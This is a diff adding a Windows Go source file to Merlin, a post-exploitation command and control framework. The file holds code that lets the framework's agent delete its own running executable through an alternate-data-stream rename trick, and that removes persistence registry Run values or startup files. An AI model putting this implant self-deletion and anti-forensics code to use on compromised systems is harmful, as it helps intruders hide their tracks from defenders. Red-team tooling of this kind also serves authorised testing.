@@ -0,0 +1,139 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package wipe
+
+import (
+	// Standard
+	"fmt"
+	"math/rand"
+	"os"
+	"strings"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+)
+
+// fileRenameInfo is the FILE_RENAME_INFO structure followed in memory by the rest of the new name
+// https://learn.microsoft.com/en-us/windows/win32/api/winbase/ns-winbase-file_rename_info
+type fileRenameInfo struct {
+	Flags          uint32
+	RootDirectory  windows.Handle
+	FileNameLength uint32
+	FileName       [1]uint16
+}
+
+// fileDispositionInfo is the FILE_DISPOSITION_INFO structure
+// https://learn.microsoft.com/en-us/windows/win32/api/winbase/ns-winbase-file_disposition_info
+type fileDispositionInfo struct {
+	DeleteFile bool
+}
+
+// hives are the registry root keys, by their short and long names, persistence values can be removed from
+var hives = map[string]registry.Key{
+	"HKCU":               registry.CURRENT_USER,
+	"HKEY_CURRENT_USER":  registry.CURRENT_USER,
+	"HKLM":               registry.LOCAL_MACHINE,
+	"HKEY_LOCAL_MACHINE": registry.LOCAL_MACHINE,
+}
+
+// removeExecutable deletes the Agent's running executable. Windows won't delete a file that is mapped as a running image,
+// but it will rename the file's unnamed data stream to an alternate data stream, which leaves the name unmapped, and then
+// delete the file when the handle marking it for deletion is closed
+func removeExecutable(path string) error {
+	name, err := windows.UTF16PtrFromString(path)
+	if err != nil {
+		return err
+	}
+
+	// Rename the unnamed data stream to a random alternate data stream
+	stream, err := windows.UTF16FromString(fmt.Sprintf(":%x", rand.Uint32())) // #nosec G404 -- The stream name isn't a secret
+	if err != nil {
+		return err
+	}
+	length := (len(stream) - 1) * 2
+	buffer := make([]byte, int(unsafe.Sizeof(fileRenameInfo{}))+length)
+	info := (*fileRenameInfo)(unsafe.Pointer(&buffer[0]))
+	info.FileNameLength = uint32(length)
+	copy(unsafe.Slice(&info.FileName[0], len(stream)), stream)
+
+	handle, err := open(name)
+	if err != nil {
+		return err
+	}
+	err = windows.SetFileInformationByHandle(handle, windows.FileRenameInfo, &buffer[0], uint32(len(buffer)))
+	_ = windows.CloseHandle(handle)
+	if err != nil {
+		return fmt.Errorf("there was an error renaming the data stream: %s", err)
+	}
+
+	// Reopen the file, now without a mapped data stream, and mark it for deletion
+	handle, err = open(name)
+	if err != nil {
+		return err
+	}
+	disposition := fileDispositionInfo{DeleteFile: true}
+	err = windows.SetFileInformationByHandle(handle, windows.FileDispositionInfo, (*byte)(unsafe.Pointer(&disposition)), uint32(unsafe.Sizeof(disposition)))
+	_ = windows.CloseHandle(handle)
+	if err != nil {
+		return fmt.Errorf("there was an error marking the file for deletion: %s", err)
+	}
+	return nil
+}
+
+// open returns a handle to the file with the access required to rename or delete it
+func open(name *uint16) (windows.Handle, error) {
+	return windows.CreateFile(name, windows.DELETE|windows.SYNCHRONIZE, windows.FILE_SHARE_READ|windows.FILE_SHARE_DELETE, nil, windows.OPEN_EXISTING, windows.FILE_ATTRIBUTE_NORMAL, 0)
+}
+
+// removePersistence deletes the persistence registry value (e.g., HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater)
+// or file (e.g., a startup folder shortcut)
+func removePersistence(artifact string) error {
+	hive, path, found := strings.Cut(artifact, `\`)
+	root, ok := hives[strings.ToUpper(hive)]
+	if !found || !ok {
+		err := os.Remove(artifact)
+		if os.IsNotExist(err) {
+			return nil
+		}
+		return err
+	}
+	i := strings.LastIndex(path, `\`)
+	if i < 0 {
+		return fmt.Errorf("the registry value %s does not have a key", artifact)
+	}
+	key, err := registry.OpenKey(root, path[:i], registry.SET_VALUE)
+	if err != nil {
+		if err == registry.ErrNotExist {
+			return nil
+		}
+		return err
+	}
+	defer key.Close()
+	err = key.DeleteValue(path[i+1:])
+	if err == registry.ErrNotExist {
+		return nil
+	}
+	return err
+}